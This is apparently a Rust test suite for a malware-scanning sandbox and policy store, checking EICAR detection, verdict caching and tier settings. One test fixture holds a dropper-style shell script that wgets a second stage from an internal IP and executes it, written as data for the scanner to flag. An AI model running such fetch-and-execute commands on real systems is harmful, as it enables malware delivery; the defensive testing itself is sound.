use std::sync::Arc;

use sentinel::policy::{Policy, PolicyAction, PolicyStore, ThreatMetadata};
use sentinel::sandbox::{Orchestrator, SandboxConfig, ThreatLevel};
use sentinel::util::sha256_hex;

const EICAR: &[u8] =
    br#"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"#;

fn pipeline_with_store() -> (tempfile::TempDir, Arc<PolicyStore>, Orchestrator) {
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(PolicyStore::open(dir.path()).unwrap());
    let orchestrator = Orchestrator::new(SandboxConfig::default(), Some(store.clone()));
    (dir, store, orchestrator)
}

#[tokio::test]
async fn benign_document_is_clean_and_second_scan_hits_cache() {
    let (_dir, _store, orchestrator) = pipeline_with_store();
    let document = b"This is an ordinary ASCII document describing the weekly schedule.";

    let first = orchestrator.analyze_file(document, "schedule.txt").await.unwrap();
    assert_eq!(first.threat_level, ThreatLevel::Clean);
    assert!(first.composite_score < 0.3);
    assert!(!first.is_malicious());
    assert!(!first.from_cache);

    // Identical bytes: the verdict cache answers without re-running the
    // sandbox tiers.
    let second = orchestrator.analyze_file(document, "schedule.txt").await.unwrap();
    assert!(second.from_cache);
    assert_eq!(second.threat_level, first.threat_level);

    let stats = orchestrator.statistics();
    assert_eq!(stats.total_files_analyzed, 2);
    assert_eq!(stats.cache_hits, 1);
    assert_eq!(stats.tier1_executions, 1);
}

#[tokio::test]
async fn eicar_is_malicious_and_policy_matches_its_hash() {
    let (_dir, store, orchestrator) = pipeline_with_store();

    let mut policy = Policy::new("EICAR", PolicyAction::Block);
    policy.file_hash = Some(sha256_hex(EICAR));
    let policy_id = store.create_policy(&policy).unwrap();

    let result = orchestrator.analyze_file(EICAR, "eicar.com").await.unwrap();
    assert!(result.is_malicious());
    assert!(result.confidence > 0.8);
    assert!(result.triggered_rules.iter().any(|r| r == "EICAR-Test-File"));

    // The policy layer decides the action for this exact content.
    let threat = ThreatMetadata {
        url: "http://x/y".to_string(),
        file_hash: sha256_hex(EICAR),
        ..Default::default()
    };
    let matched = store.match_policy(&threat).unwrap().unwrap();
    assert_eq!(matched.id, policy_id);
    assert_eq!(matched.action, PolicyAction::Block);
    assert_eq!(store.get_policy(policy_id).unwrap().hit_count, 1);
}

#[tokio::test]
async fn cached_malicious_verdict_survives_pipeline_restart() {
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(PolicyStore::open(dir.path()).unwrap());

    {
        let orchestrator = Orchestrator::new(SandboxConfig::default(), Some(store.clone()));
        let result = orchestrator.analyze_file(EICAR, "eicar.com").await.unwrap();
        assert!(result.is_malicious());
    }

    // A fresh orchestrator over the same store sees the cached verdict.
    let orchestrator = Orchestrator::new(SandboxConfig::default(), Some(store));
    let result = orchestrator.analyze_file(EICAR, "eicar.com").await.unwrap();
    assert!(result.from_cache);
    assert!(result.is_malicious());
}

#[tokio::test]
async fn pipeline_works_without_a_store() {
    let orchestrator = Orchestrator::new(SandboxConfig::default(), None);
    let result = orchestrator.analyze_file(b"benign content", "x.txt").await.unwrap();
    assert_eq!(result.threat_level, ThreatLevel::Clean);
    assert!(!result.from_cache);

    // Without a cache every scan re-runs the tiers.
    let again = orchestrator.analyze_file(b"benign content", "x.txt").await.unwrap();
    assert!(!again.from_cache);
    assert_eq!(orchestrator.statistics().cache_hits, 0);
}

#[tokio::test]
async fn suspicious_dropper_gets_behavioral_signal() {
    let (_dir, _store, orchestrator) = pipeline_with_store();

    let dropper = b"#!/bin/sh\nwget http://10.9.8.7/stage2.com\nchmod +x /tmp/stage2\ncrontab -l\nexec /tmp/stage2 via socket connect send\nmmap mprotect ptrace regions\n";
    let result = orchestrator.analyze_file(dropper, "stage1.sh").await.unwrap();

    assert!(result.is_suspicious());
    assert!(result.behavioral_score > 0.0);
    assert!(!result.detected_behaviors.is_empty());

    let stats = orchestrator.statistics();
    assert_eq!(stats.tier2_executions, 1);
}

#[tokio::test]
async fn disabled_tiers_still_produce_a_verdict() {
    let config = SandboxConfig {
        enable_tier1: false,
        enable_tier2: true,
        ..Default::default()
    };
    let orchestrator = Orchestrator::new(config, None);
    let result = orchestrator.analyze_file(b"plain text", "t.txt").await.unwrap();
    assert_eq!(result.threat_level, ThreatLevel::Clean);

    let config = SandboxConfig {
        enable_tier1: true,
        enable_tier2: false,
        ..Default::default()
    };
    let orchestrator = Orchestrator::new(config, None);
    let result = orchestrator.analyze_file(EICAR, "eicar.com").await.unwrap();
    assert!(result.is_malicious());
}
